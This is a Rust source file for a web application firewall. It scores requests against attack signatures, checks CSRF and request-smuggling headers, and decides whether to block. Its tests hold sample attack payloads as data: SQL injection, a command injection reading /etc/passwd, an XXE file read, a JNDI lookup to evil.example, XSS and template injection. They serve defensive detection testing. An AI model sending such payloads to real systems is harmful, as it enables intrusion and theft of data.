//! The decision: scan a request's fields, add up the anomaly score, check
//! CSRF, and say what to do.

use std::cell::OnceCell;

use palisade_shared::contract::{WafDecision, WafMatch};
use palisade_shared::matcher::RequestView;

use crate::config::{BodyLimitAction, Config, Exclusion, Mode};
use crate::csrf::{self, CsrfViolation};
use crate::engine::{Rule, RuleFilter};
use crate::json;
use crate::request::{body_fields, head_fields, BodyKind, Field, Location, RequestHead};
use crate::rules::{Condition, Targets};

/// At most this many matches are listed in a decision.
pub const MAX_LISTED_MATCHES: usize = 32;

/// What the filter does with the request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Action {
    /// Let it through.
    Allow,
    /// Refuse it with a local reply.
    Refuse {
        /// 403, or 413 for a body over the limit.
        status: u16,
        /// Machine-readable reason (`attack_detected`, `csrf_origin_mismatch`, ...).
        reason: String,
    },
}

/// The outcome of an inspection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    /// What to do.
    pub action: Action,
    /// What to publish as `palisade.waf`.
    pub decision: WafDecision,
    /// The distinct families that matched (for metrics).
    pub families: Vec<String>,
    /// The CSRF violation seen, refused or (in shadow mode) only reported.
    pub csrf: Option<CsrfViolation>,
}

/// The evidence gathered so far for one request (head, then body).
#[derive(Debug, Clone, Default)]
pub struct Inspection {
    exclusions: Vec<usize>,
    matched: Vec<(usize, String)>,
    /// Matches in a JSON body, until their paths are spelled: the index in
    /// `matched` and the offset of the value's opening quote.
    json_matches: Vec<(usize, usize)>,
    /// Request-framing checks that fired: rule id, score, location.
    framing: Vec<(u32, u32, String)>,
    csrf: Option<CsrfViolation>,
    csrf_exempt: bool,
    body_too_large: bool,
    /// The body (or its first `max_body_bytes`) was inspected.
    body_inspected: bool,
    /// Whether the request has no `Referer` from its own site (rules with
    /// [`Condition::ForeignReferer`] count only then); worked out the first
    /// time such a rule could match.
    foreign_referer: OnceCell<bool>,
}

impl Inspection {
    /// The anomaly score so far.
    pub fn score(&self, config: &Config) -> u32 {
        let signatures: u32 = self
            .matched
            .iter()
            .map(|(r, _)| config.rules.rules()[*r].score)
            .sum();
        signatures + self.framing.iter().map(|(_, score, _)| score).sum::<u32>()
    }
}

struct FieldFilter<'a> {
    config: &'a Config,
    exclusions: &'a [usize],
    field: &'a Field<'a>,
    head: &'a RequestHead<'a>,
    foreign_referer: &'a OnceCell<bool>,
}

impl FieldFilter<'_> {
    fn names_field(&self, e: &Exclusion) -> bool {
        let f = self.field;
        let t = f.target;
        if t.intersects(Targets::ARGS.or(Targets::ARG_NAMES).or(Targets::FILES))
            && e.parameters.contains(f.name.as_ref())
        {
            return true;
        }
        if t.intersects(Targets::HEADERS.or(Targets::OTHER_HEADERS))
            && e.headers.contains(f.name.as_ref())
        {
            return true;
        }
        t.intersects(Targets::COOKIES.or(Targets::COOKIE_NAMES))
            && e.cookies.contains(f.name.as_ref())
    }
}

impl RuleFilter for FieldFilter<'_> {
    fn family_enabled(&self, family: &str) -> bool {
        !self.exclusions.iter().any(|i| {
            let e = &self.config.exclusions[*i];
            e.rules.is_empty()
                && (e.families.is_empty() || e.families.contains(family))
                && (!e.is_targeted() || self.names_field(e))
        })
    }

    fn rule_enabled(&self, rule: &Rule) -> bool {
        if rule.condition == Condition::ForeignReferer
            && !*self
                .foreign_referer
                .get_or_init(|| csrf::referer_is_foreign(self.head))
        {
            return false;
        }
        !self.exclusions.iter().any(|i| {
            let e = &self.config.exclusions[*i];
            e.covers(rule.id, &rule.family) && (!e.is_targeted() || self.names_field(e))
        })
    }
}

/// The WAF: a compiled configuration and the decisions it makes.
#[derive(Debug)]
pub struct Waf {
    /// The configuration.
    pub config: Config,
}

impl Waf {
    /// A WAF for this configuration.
    pub fn new(config: Config) -> Self {
        Waf { config }
    }

    fn view<'a>(head: &RequestHead<'a>) -> RequestView<'a> {
        RequestView {
            method: head.method,
            host: head.authority,
            path: head.path,
            route_name: head.route_name,
        }
    }

    /// Inspects the request head (method, path, query, headers, cookies)
    /// and checks CSRF.
    pub fn inspect_head(&self, head: &RequestHead<'_>) -> Inspection {
        let view = Self::view(head);
        let mut inspection = Inspection {
            exclusions: self
                .config
                .exclusions
                .iter()
                .enumerate()
                .filter(|(_, e)| e.matcher.matches(&view))
                .map(|(i, _)| i)
                .collect(),
            ..Inspection::default()
        };
        if let Some(csrf) = &self.config.csrf {
            inspection.csrf_exempt = csrf.exempt.iter().any(|m| m.matches(&view));
            if !inspection.csrf_exempt {
                inspection.csrf = csrf.policy.check(head);
            }
        }
        let mut fields = Vec::with_capacity(16);
        head_fields(head, &self.config.inspect_headers, &mut fields);
        self.scan_fields(head, &fields, &mut inspection);
        self.protocol_checks(head, &mut inspection);
        inspection
    }

    /// Inspects a body (at most `max_body_bytes` of it; `complete_len` is
    /// the size that was sent, when known, to apply the body limit).
    pub fn inspect_body(&self, head: &RequestHead<'_>, body: &[u8], inspection: &mut Inspection) {
        if body.len() > self.config.max_body_bytes {
            inspection.body_too_large = true;
            if self.config.body_limit_action == BodyLimitAction::Reject {
                return;
            }
        }
        inspection.body_inspected = true;
        let body = &body[..body.len().min(self.config.max_body_bytes)];
        // Validation alone is cheap; replacing bad bytes only when there are some.
        let text = match std::str::from_utf8(body) {
            Ok(text) => std::borrow::Cow::Borrowed(text),
            Err(_) => String::from_utf8_lossy(body),
        };
        let kind = BodyKind::from_content_type(head.header("content-type"));
        body_fields(&kind, &text, &mut |field| {
            self.scan_field(head, field, inspection)
        });
        // Matches in a JSON body know their value's offset: one more walk
        // spells their paths.
        if !inspection.json_matches.is_empty() {
            let (slots, offsets): (Vec<usize>, Vec<usize>) =
                inspection.json_matches.drain(..).unzip();
            for (slot, path) in slots.into_iter().zip(json::paths(&text, &offsets)) {
                if let (Some(m), Some(path)) = (inspection.matched.get_mut(slot), path) {
                    m.1 = path;
                }
            }
        }
    }

    /// Whether the body is worth buffering (an exclusion may turn
    /// everything off for a route).
    pub fn wants_body(&self, inspection: &Inspection) -> bool {
        !inspection.exclusions.iter().any(|i| {
            let e = &self.config.exclusions[*i];
            !e.is_targeted() && e.rules.is_empty() && e.families.is_empty()
        })
    }

    fn scan_fields(
        &self,
        head: &RequestHead<'_>,
        fields: &[Field<'_>],
        inspection: &mut Inspection,
    ) {
        for field in fields {
            self.scan_field(head, field, inspection);
        }
    }

    fn scan_field(&self, head: &RequestHead<'_>, field: &Field<'_>, inspection: &mut Inspection) {
        let filter = FieldFilter {
            config: &self.config,
            exclusions: &inspection.exclusions,
            field,
            head,
            foreign_referer: &inspection.foreign_referer,
        };
        let matched = &mut inspection.matched;
        let json_matches = &mut inspection.json_matches;
        let rules = self.config.rules.rules();
        self.config.rules.scan(
            field.target,
            &field.value,
            field.transforms,
            &filter,
            &mut |r| {
                // A link counts only when it leaves the site.
                let own_link = rules.get(r).is_some_and(|rule| {
                    rule.condition == Condition::ForeignUrl
                        && !csrf::url_is_foreign(&field.value, head)
                });
                if !own_link && !matched.iter().any(|(m, _)| *m == r) {
                    if let Location::JsonAt(at) = field.location {
                        json_matches.push((matched.len(), at));
                    }
                    matched.push((r, field.location()));
                }
            },
        );
    }

    /// Request smuggling and header-framing signals that are not about a
    /// value's content.
    fn protocol_checks(&self, head: &RequestHead<'_>, inspection: &mut Inspection) {
        if self.config.framing_rules.is_empty() {
            return;
        }
        // One pass over the headers: the framing headers' counts and the
        // first header carrying a line break or NUL.
        let (mut content_length, mut transfer_encoding, mut host) = (0, 0, 0);
        let mut te: Option<&str> = None;
        let mut broken: Option<&str> = None;
        for (name, value) in head.headers {
            if name.eq_ignore_ascii_case("content-length") {
                content_length += 1;
            } else if name.eq_ignore_ascii_case("transfer-encoding") {
                transfer_encoding += 1;
                te = te.or(Some(value.as_str()));
            } else if name.eq_ignore_ascii_case("host") {
                host += 1;
            }
            let breaks = |s: &str| s.bytes().any(|b| matches!(b, b'\r' | b'\n' | 0));
            if broken.is_none() && (breaks(name) || breaks(value)) {
                broken = Some(name.as_str());
            }
        }
        let mut fired: Vec<(u32, String)> = Vec::new();
        if te.is_some() && content_length > 0 {
            fired.push((10001, "header:transfer-encoding".into()));
        }
        if let Some(te) = te {
            if !te.trim().eq_ignore_ascii_case("chunked") || transfer_encoding > 1 {
                fired.push((10002, "header:transfer-encoding".into()));
            }
        }
        if let Some(name) = broken {
            fired.push((10003, format!("header:{}", name.to_ascii_lowercase())));
        }
        if content_length > 1 || host > 1 {
            fired.push((10004, "headers".into()));
        }
        for (id, location) in fired {
            let Some((_, score)) = self.config.framing_rules.iter().find(|(r, _)| *r == id) else {
                continue;
            };
            let header = location.strip_prefix("header:").unwrap_or("");
            let excluded = inspection.exclusions.iter().any(|i| {
                let e = &self.config.exclusions[*i];
                e.covers(id, "protocol") && (!e.is_targeted() || e.headers.contains(header))
            });
            if !excluded {
                inspection.framing.push((id, *score, location));
            }
        }
    }

    /// The decision so far.
    pub fn verdict(&self, inspection: &Inspection) -> Verdict {
        let rules = self.config.rules.rules();
        let score = inspection.score(&self.config);
        let matches: Vec<WafMatch> = inspection
            .framing
            .iter()
            .map(|(id, _, location)| WafMatch {
                rule_id: *id,
                family: "protocol".into(),
                location: location.clone(),
            })
            .chain(inspection.matched.iter().map(|(r, location)| WafMatch {
                rule_id: rules[*r].id,
                family: rules[*r].family.clone(),
                location: location.clone(),
            }))
            .take(MAX_LISTED_MATCHES)
            .collect();
        let mut families: Vec<String> = inspection
            .matched
            .iter()
            .map(|(r, _)| rules[*r].family.clone())
            .collect();
        if !inspection.framing.is_empty() {
            families.push("protocol".into());
        }
        families.sort();
        families.dedup();
        let block = self.config.mode == Mode::Block;
        let csrf_shadow = self.config.csrf.as_ref().is_none_or(|c| c.shadow);
        let (action, label) = if inspection.body_too_large
            && self.config.body_limit_action == BodyLimitAction::Reject
        {
            (
                Action::Refuse {
                    status: 413,
                    reason: "body_too_large".into(),
                },
                "body_too_large",
            )
        } else if score >= self.config.anomaly_threshold {
            if block {
                (
                    Action::Refuse {
                        status: 403,
                        reason: "attack_detected".into(),
                    },
                    "blocked",
                )
            } else {
                (Action::Allow, "detected")
            }
        } else if let Some(v) = inspection.csrf {
            if csrf_shadow {
                (Action::Allow, "csrf_shadow")
            } else {
                (
                    Action::Refuse {
                        status: 403,
                        reason: v.reason().into(),
                    },
                    "csrf_blocked",
                )
            }
        } else {
            (Action::Allow, "allowed")
        };
        Verdict {
            action,
            decision: WafDecision {
                score,
                matches,
                action: label.into(),
                body_inspected: inspection.body_inspected,
            },
            families,
            csrf: inspection.csrf,
        }
    }

    /// Head, then body when there is one: the whole decision at once.
    pub fn inspect(&self, head: &RequestHead<'_>, body: Option<&[u8]>) -> Verdict {
        let mut inspection = self.inspect_head(head);
        if let Some(b) = body {
            if self.wants_body(&inspection) {
                self.inspect_body(head, b, &mut inspection);
            }
        }
        self.verdict(&inspection)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn waf(json: &str) -> Waf {
        Waf::new(Config::from_json(json.as_bytes()).unwrap())
    }

    fn hdrs(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    fn run(
        waf: &Waf,
        method: &str,
        path: &str,
        headers: &[(&str, &str)],
        body: Option<&str>,
    ) -> Verdict {
        let headers = hdrs(headers);
        let head = RequestHead {
            method,
            path,
            authority: "api.example.com",
            route_name: "",
            headers: &headers,
        };
        waf.inspect(&head, body.map(str::as_bytes))
    }

    fn ids(v: &Verdict) -> Vec<u32> {
        v.decision.matches.iter().map(|m| m.rule_id).collect()
    }

    const SQLI: &str = "/items?id=1%27%20OR%20%271%27%3D%271";

    #[test]
    fn attacks_are_blocked_with_their_location() {
        let w = waf("{}");
        let v = run(&w, "GET", SQLI, &[], None);
        assert!(
            matches!(v.action, Action::Refuse { status: 403, .. }),
            "{v:?}"
        );
        assert_eq!(v.decision.action, "blocked");
        assert!(v.decision.score >= 5);
        assert!(v
            .decision
            .matches
            .iter()
            .any(|m| m.family == "sqli" && m.location == "args:id"));
        assert_eq!(v.families, vec!["sqli".to_string()]);
        let v = run(
            &w,
            "GET",
            "/search?q=shoes&page=2",
            &[("user-agent", "Mozilla/5.0")],
            None,
        );
        assert_eq!(v.action, Action::Allow);
        assert_eq!(v.decision.action, "allowed");
        assert_eq!(v.decision.score, 0);
    }

    #[test]
    fn every_body_kind_is_inspected() {
        let w = waf(r#"{"csrf":{"enabled":false}}"#);
        let cases: &[(&str, &str)] = &[
            ("application/json", r#"{"a":{"b":["<script>alert(1)</script>"]}}"#),
            ("application/x-www-form-urlencoded", "name=x&cmd=%3Bcat%20%2Fetc%2Fpasswd"),
            (
                "multipart/form-data; boundary=zz",
                "--zz\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n' UNION SELECT password FROM users--\r\n--zz--\r\n",
            ),
            (
                "application/xml",
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            ),
            ("text/plain", "${jndi:ldap://evil.example/a}"),
        ];
        for (ct, body) in cases {
            let v = run(&w, "POST", "/api", &[("content-type", ct)], Some(body));
            assert!(
                matches!(v.action, Action::Refuse { status: 403, .. }),
                "{ct}: {v:?}"
            );
        }
    }

    #[test]
    fn json_matches_are_located_by_their_path() {
        let w = waf(r#"{"csrf":{"enabled":false}}"#);
        let body = r#"{"n":1,"items":[{"note":"ok"},{"note":"<script>alert(1)</script>"}],"login":{"$ne":""},"q":"1' UNION SELECT password FROM users--"}"#;
        let v = run(
            &w,
            "POST",
            "/api",
            &[("content-type", "application/json")],
            Some(body),
        );
        let locations: Vec<&str> = v
            .decision
            .matches
            .iter()
            .map(|m| m.location.as_str())
            .collect();
        for want in ["json.items[1].note", "json_names:login.$ne", "json.q"] {
            assert!(locations.contains(&want), "{want}: {locations:?}");
        }
        assert!(locations.iter().all(|l| *l != "json"), "{locations:?}");
    }

    #[test]
    fn detect_mode_reports_without_refusing() {
        let v = run(&waf(r#"{"mode":"detect"}"#), "GET", SQLI, &[], None);
        assert_eq!(v.action, Action::Allow);
        assert_eq!(v.decision.action, "detected");
        assert!(!v.decision.matches.is_empty());
    }

    #[test]
    fn the_threshold_decides() {
        let v = run(
            &waf(r#"{"anomaly_threshold": 1000}"#),
            "GET",
            SQLI,
            &[],
            None,
        );
        assert_eq!(v.action, Action::Allow);
        assert_eq!(v.decision.action, "allowed");
        assert!(v.decision.score > 0, "matches are still reported");
    }

    #[test]
    fn exclusions_turn_off_rules_families_and_named_values() {
        let base = run(&waf("{}"), "GET", SQLI, &[], None);
        let all_ids = ids(&base);
        let rules_off = format!(
            r#"{{"exclusions":[{{"match":{{"path":{{"prefix":"/items"}}}},"rules":{all_ids:?}}}]}}"#
        );
        assert_eq!(
            run(&waf(&rules_off), "GET", SQLI, &[], None).action,
            Action::Allow
        );
        // Only on the matching route.
        assert!(matches!(
            run(
                &waf(&rules_off),
                "GET",
                &SQLI.replace("/items", "/other"),
                &[],
                None
            )
            .action,
            Action::Refuse { .. }
        ));
        let family_off = r#"{"exclusions":[{"families":["sqli"]}]}"#;
        assert_eq!(
            run(&waf(family_off), "GET", SQLI, &[], None).action,
            Action::Allow
        );
        let param_off = r#"{"exclusions":[{"parameters":["id"]}]}"#;
        assert_eq!(
            run(&waf(param_off), "GET", SQLI, &[], None).action,
            Action::Allow
        );
        let other_param = r#"{"exclusions":[{"parameters":["q"]}]}"#;
        assert!(matches!(
            run(&waf(other_param), "GET", SQLI, &[], None).action,
            Action::Refuse { .. }
        ));
        let header_off = r#"{"inspect_headers":["x-template"],"exclusions":[{"headers":["x-template"],"families":["template"]}]}"#;
        let h = [("x-template", "{{ config.items() }}")];
        let inspected = waf(r#"{"inspect_headers":["x-template"]}"#);
        assert!(matches!(
            run(&inspected, "GET", "/", &h, None).action,
            Action::Refuse { .. }
        ));
        let w =
            waf(&header_off.replacen("[\"x-template\"],\"families", "[\"x-other\"],\"families", 1));
        assert!(matches!(
            run(&w, "GET", "/", &h, None).action,
            Action::Refuse { .. }
        ));
        assert_eq!(
            run(&waf(header_off), "GET", "/", &h, None).action,
            Action::Allow
        );
        let cookie_off = r#"{"exclusions":[{"cookies":["prefs"]}]}"#;
        let c = [("cookie", "prefs=<script>alert(1)</script>")];
        assert!(matches!(
            run(&waf("{}"), "GET", "/", &c, None).action,
            Action::Refuse { .. }
        ));
        assert_eq!(
            run(&waf(cookie_off), "GET", "/", &c, None).action,
            Action::Allow
        );
        let everything_off = r#"{"exclusions":[{"match":{"path":{"prefix":"/items"}}}]}"#;
        let w = waf(everything_off);
        assert_eq!(run(&w, "GET", SQLI, &[], None).action, Action::Allow);
        let headers = hdrs(&[]);
        let head = RequestHead {
            method: "POST",
            path: "/items",
            authority: "h",
            route_name: "",
            headers: &headers,
        };
        assert!(!w.wants_body(&w.inspect_head(&head)));
    }

    #[test]
    fn disabled_rules_and_families_are_not_compiled() {
        let base = ids(&run(&waf("{}"), "GET", SQLI, &[], None));
        let w = waf(&format!(r#"{{"disabled_rules":{base:?}}}"#));
        assert_eq!(run(&w, "GET", SQLI, &[], None).decision.score, 0);
        let w = waf(r#"{"disabled_families":["sqli"]}"#);
        assert!(w.config.rules.rules().iter().all(|r| r.family != "sqli"));
    }

    #[test]
    fn custom_rules_match_with_their_transforms_and_score() {
        let w = waf(r#"{"custom_rules":[
                {"id":100001,"family":"internal","targets":["headers"],"transforms":["url_decode","lowercase"],
                 "phrases":["internal-only"],"severity":"warning"},
                {"id":100002,"targets":["path"],"regex":"^/admin/","score":5}
            ],"inspect_headers":["x-debug"]}"#);
        let v = run(&w, "GET", "/", &[("x-debug", "INTERNAL%2DONLY")], None);
        assert_eq!(ids(&v), vec![100001]);
        assert_eq!(v.decision.score, 3);
        assert_eq!(v.action, Action::Allow, "3 < 5");
        let v = run(&w, "GET", "/admin/users", &[], None);
        assert_eq!(ids(&v), vec![100002]);
        assert!(matches!(v.action, Action::Refuse { .. }));
        assert_eq!(v.decision.matches[0].family, "custom");
    }

    #[test]
    fn paranoia_selects_rules() {
        // A tag that is not dangerous by itself: only the paranoid catch-all sees it.
        let value = "/q?x=%3Ccustom%3Ehello%3C%2Fcustom%3E";
        assert_eq!(run(&waf("{}"), "GET", value, &[], None).decision.score, 0);
        assert!(
            run(&waf(r#"{"paranoia_level":2}"#), "GET", value, &[], None)
                .decision
                .score
                > 0
        );
    }

    #[test]
    fn csrf_blocks_or_only_reports() {
        let cross = [("origin", "https://evil.example")];
        let v = run(
            &waf("{}"),
            "POST",
            "/api/transfer",
            &cross,
            Some("amount=10"),
        );
        assert_eq!(
            v.action,
            Action::Refuse {
                status: 403,
                reason: "csrf_origin_mismatch".into()
            }
        );
        assert_eq!(v.decision.action, "csrf_blocked");
        let v = run(
            &waf(r#"{"csrf":{"shadow":true}}"#),
            "POST",
            "/api/transfer",
            &cross,
            Some("amount=10"),
        );
        assert_eq!(v.action, Action::Allow);
        assert_eq!(v.decision.action, "csrf_shadow");
        assert_eq!(v.csrf, Some(CsrfViolation::OriginMismatch));
        let exempt = r#"{"csrf":{"exempt":[{"path":{"prefix":"/webhooks/"}}]}}"#;
        assert_eq!(
            run(
                &waf(exempt),
                "POST",
                "/webhooks/stripe",
                &cross,
                Some("a=1")
            )
            .action,
            Action::Allow
        );
        let same = [("origin", "https://api.example.com")];
        assert_eq!(
            run(
                &waf("{}"),
                "POST",
                "/api/transfer",
                &same,
                Some("amount=10")
            )
            .action,
            Action::Allow
        );
        assert_eq!(
            run(&waf("{}"), "GET", "/api", &cross, None).action,
            Action::Allow
        );
    }

    #[test]
    fn body_limit_rejects_or_inspects_the_prefix() {
        let big = format!("{}' UNION SELECT 1--", "a=1&".repeat(100));
        let reject = waf(r#"{"max_body_bytes":64,"body_limit_action":"reject"}"#);
        let v = run(
            &reject,
            "POST",
            "/",
            &[("content-type", "application/x-www-form-urlencoded")],
            Some(&big),
        );
        assert_eq!(
            v.action,
            Action::Refuse {
                status: 413,
                reason: "body_too_large".into()
            }
        );
        // The attack lies beyond the inspected prefix.
        let prefix = waf(r#"{"max_body_bytes":64}"#);
        let v = run(
            &prefix,
            "POST",
            "/",
            &[("content-type", "application/x-www-form-urlencoded")],
            Some(&big),
        );
        assert_eq!(v.action, Action::Allow);
        let small = waf(r#"{"max_body_bytes":4096}"#);
        let v = run(
            &small,
            "POST",
            "/",
            &[("content-type", "application/x-www-form-urlencoded")],
            Some(&big),
        );
        assert!(matches!(v.action, Action::Refuse { status: 403, .. }));
    }

    #[test]
    fn framing_signals() {
        let w = waf("{}");
        type Case<'a> = (&'a [(&'a str, &'a str)], Option<u32>);
        let cases: &[Case<'_>] = &[
            (
                &[("content-length", "5"), ("transfer-encoding", "chunked")],
                Some(10001),
            ),
            (&[("transfer-encoding", "chunked, identity")], Some(10002)),
            (&[("transfer-encoding", "chunked")], None),
            (&[("x-a", "1\r\nSet-Cookie: a=b")], Some(10003)),
            (&[("content-length", "5")], None),
        ];
        for (headers, want) in cases {
            let v = run(&w, "GET", "/", headers, None);
            let framing: Vec<u32> = ids(&v)
                .into_iter()
                .filter(|id| (10001..10005).contains(id))
                .collect();
            match want {
                Some(id) => assert!(framing.contains(id), "{headers:?}: {framing:?}"),
                None => assert!(framing.is_empty(), "{headers:?}: {framing:?}"),
            }
        }
        let off = waf(r#"{"disabled_rules":[10001]}"#);
        let v = run(
            &off,
            "GET",
            "/",
            &[("content-length", "5"), ("transfer-encoding", "chunked")],
            None,
        );
        assert!(!ids(&v).contains(&10001));
    }

    #[test]
    fn conditional_rules_look_at_the_referer_and_the_link() {
        let w = waf("{}");
        let fixation = "/login?PHPSESSID=74B0CB414BD77D17B5680A6386EF1666";
        // A session id from a link or another site is planted.
        for headers in [vec![], vec![("referer", "https://evil.example/")]] {
            let v = run(&w, "GET", fixation, &headers, None);
            assert!(ids(&v).contains(&29002), "{headers:?}: {v:?}");
            assert!(matches!(v.action, Action::Refuse { .. }));
        }
        // The application's own pages may carry it.
        let own = [("referer", "https://api.example.com/account")];
        assert!(!ids(&run(&w, "GET", fixation, &own, None)).contains(&29002));
        // A link leaves the site or it does not (paranoia 2).
        let w = waf(r#"{"paranoia_level": 2}"#);
        let off_site = run(&w, "GET", "/go?to=https://evil.example/x", &[], None);
        assert!(ids(&off_site).contains(&21009), "{off_site:?}");
        let own_link = run(&w, "GET", "/go?to=https://api.example.com/x", &[], None);
        assert!(!ids(&own_link).contains(&21009), "{own_link:?}");
    }

    #[test]
    fn the_decision_says_whether_the_body_was_inspected() {
        let form = [("content-type", "application/x-www-form-urlencoded")];
        let cases: &[(&str, &str, Option<&str>, bool)] = &[
            ("{}", "/items", None, false),
            ("{}", "/items", Some("a=1"), true),
            // The first bytes are inspected, the rest passes.
            (r#"{"max_body_bytes":2}"#, "/items", Some("a=1234"), true),
            // Refused for its size, not read.
            (
                r#"{"max_body_bytes":2,"body_limit_action":"reject"}"#,
                "/items",
                Some("a=1234"),
                false,
            ),
            // A route with every signature off does not read bodies.
            (
                r#"{"exclusions":[{"match":{"path":{"prefix":"/upload"}}}]}"#,
                "/upload",
                Some("a=1"),
                false,
            ),
        ];
        for (config, path, body, inspected) in cases {
            let v = run(&waf(config), "POST", path, &form, *body);
            assert_eq!(v.decision.body_inspected, *inspected, "{config} {body:?}");
        }
        // A refusal made at the headers, before the body arrives.
        let w = waf("{}");
        let headers = hdrs(&form);
        let head = RequestHead {
            method: "POST",
            path: SQLI,
            authority: "api.example.com",
            route_name: "",
            headers: &headers,
        };
        let v = w.verdict(&w.inspect_head(&head));
        assert!(matches!(v.action, Action::Refuse { .. }));
        assert!(!v.decision.body_inspected);
        let json = serde_json::to_value(&v.decision).unwrap();
        assert_eq!(json["body_inspected"], false);
    }

    #[test]
    fn the_decision_serializes_for_the_audit_log() {
        let v = run(&waf("{}"), "GET", SQLI, &[], None);
        let json: serde_json::Value = serde_json::to_value(&v.decision).unwrap();
        assert_eq!(json["action"], "blocked");
        assert!(json["score"].as_u64().unwrap() >= 5);
        assert_eq!(json["matches"][0]["location"], "args:id");
    }
}
